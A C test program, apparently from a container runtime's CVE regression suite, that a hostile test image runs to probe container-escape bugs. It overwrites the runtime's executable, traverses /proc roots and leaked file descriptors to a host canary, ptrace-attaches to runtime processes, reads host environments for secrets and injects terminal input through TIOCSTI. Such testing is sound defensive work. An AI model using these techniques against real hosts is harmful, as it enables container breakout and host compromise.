// SPDX-License-Identifier: Apache-2.0
/*
 * tests/cve/attacker.c: the program that a hostile image brings (static: it runs in any root). What it finds it prints, a line
 * each; "canary" is the absolute path of a file of the host's, outside of every container.
 *
 *   hunt CANARY FLAG    until the file FLAG is there: for every process that shows up in /proc, get at the host by its root, cwd
 *                       and fds, write to its executable (CVE-2019-5736), attach to it and read its environment while it is not
 *                       yet a program of the image (CVE-2016-9962, CVE-2026-57231)
 *   fds CANARY          what is open beside stdin, stdout and stderr, and whether it leads to the canary (CVE-2024-21626)
 *   tiocsti             push a line into the terminal that is stdin (CVE-2016-10124, CVE-2017-5226)
 *   swap A B            exchange two names once: for the harness
 *
 * Under any other name it leaves "/ran-NAME" behind: whoever called it executed what the image brought.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define UP	    "../../../../../../../../../../../../../../../../"
#define PENDING_MAX 64

/* Executables that were seen and are not the image's: busy while they run, so tried again and again. */
struct pending {
	int fd[PENDING_MAX];
	int n;
};

static void found(const char *what, const char *where)
{
	printf("%s %s\n", what, where);
	fflush(stdout);
}

static bool opens(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

/* Is it a file of the image: the same as what we can reach by a plain name? */
static bool of_image(const struct stat *st)
{
	static const char *const names[] = { "/bin/busybox", "/bin/attacker" };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		struct stat own;

		if (stat(names[i], &own) == 0 && own.st_ino == st->st_ino && own.st_dev == st->st_dev)
			return true;
	}
	return false;
}

static void try_tree(const char *base, const char *canary)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/" UP "%s", base, canary + 1);
	if (opens(path))
		found("canary by", base);
	snprintf(path, sizeof(path), "%s%s", base, canary);
	if (opens(path))
		found("canary below", base);
}

static void try_fds(const char *pid, const char *canary)
{
	char path[600];
	struct dirent *e;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (e = readdir(dir))) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
		if (e->d_name[0] != '.')
			try_tree(path, canary);
	}
	if (dir)
		closedir(dir);
}

static void try_environ(const char *pid)
{
	static char buf[65536];
	char path[300];
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? 0 : read(fd, buf, sizeof(buf));
	if (n > 0 && memmem(buf, (size_t)n, "HOST_SECRET=", 12))
		found("environment of the host in", path);
	if (fd >= 0)
		close(fd);
}

/* True where the process still is what the runtime made it, not a program of the image. */
static bool is_foreign(const char *pid)
{
	char path[300];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	return stat(path, &st) == 0 && !of_image(&st);
}

/* Foreign before and foreign after: it was so in between. */
static void try_ptrace(const char *pid)
{
	pid_t p = (pid_t)atol(pid);

	if (!is_foreign(pid) || ptrace(PTRACE_SEIZE, p, 0, 0))
		return;
	if (is_foreign(pid))
		found("attached to", pid);
	ptrace(PTRACE_INTERRUPT, p, 0, 0);
	waitpid(p, NULL, __WALL);
	ptrace(PTRACE_DETACH, p, 0, 0);
}

static void take_exe(const char *pid, struct pending *pending)
{
	char path[300];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) || of_image(&st) || pending->n == PENDING_MAX)
		close(fd);
	else
		pending->fd[pending->n++] = fd;
}

/* One that cannot be written for another reason than being busy is given up. */
static void write_exes(struct pending *pending)
{
	for (int i = pending->n - 1; i >= 0; i--) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", pending->fd[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno == ETXTBSY)
			continue;
		if (fd >= 0 && write(fd, "#!/bin/attacker\n", 16) == 16)
			found("wrote to the executable of", "the runtime");
		if (fd >= 0)
			close(fd);
		close(pending->fd[i]);
		pending->fd[i] = pending->fd[--pending->n];
	}
}

static int hunt(const char *canary, const char *flag)
{
	struct pending pending = { .n = 0 };
	char path[300];

	found("hunting", "");
	while (access(flag, F_OK)) {
		DIR *dir = opendir("/proc");
		struct dirent *e;

		while (dir && (e = readdir(dir))) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atol(e->d_name) == getpid())
				continue;
			take_exe(e->d_name, &pending);
			snprintf(path, sizeof(path), "/proc/%s/root", e->d_name);
			try_tree(path, canary);
			snprintf(path, sizeof(path), "/proc/%s/cwd", e->d_name);
			try_tree(path, canary);
			try_fds(e->d_name, canary);
			try_environ(e->d_name);
			try_ptrace(e->d_name);
			write_exes(&pending);
		}
		if (dir)
			closedir(dir);
	}
	found("hunted", "");
	return 0;
}

static int fds(const char *canary)
{
	for (int fd = 3; fd < 1024; fd++) {
		char line[64];
		struct stat st;
		int file;

		if (fstat(fd, &st))
			continue;
		snprintf(line, sizeof(line), "%d mode %o", fd, st.st_mode);
		found("open", line);
		snprintf(line, sizeof(line), UP "%s", canary + 1);
		file = openat(fd, line, O_RDONLY);
		if (file >= 0)
			found("canary by an open fd", "");
	}
	found("counted", "");
	return 0;
}

static int tiocsti(void)
{
	static const char line[] = "echo canary\n";
	int fd = open("/dev/tty", O_RDWR);

	if (fd >= 0)
		found("a controlling terminal of the host's", "");
	for (const char *c = line; *c; c++)
		if (ioctl(0, TIOCSTI, c) == 0)
			found("pushed", "a byte");
	found("pushing is over", "");
	return 0;
}

static int leave_mark(const char *name)
{
	char path[300];
	const char *base = strrchr(name, '/');

	snprintf(path, sizeof(path), "/ran-%.200s", base ? base + 1 : name);
	return open(path, O_WRONLY | O_CREAT, 0644) < 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "hunt"))
		return hunt(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "fds"))
		return fds(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "tiocsti"))
		return tiocsti();
	if (argc == 4 && !strcmp(argv[1], "swap"))
		return syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2) != 0;
	return leave_mark(argv[0]);
}
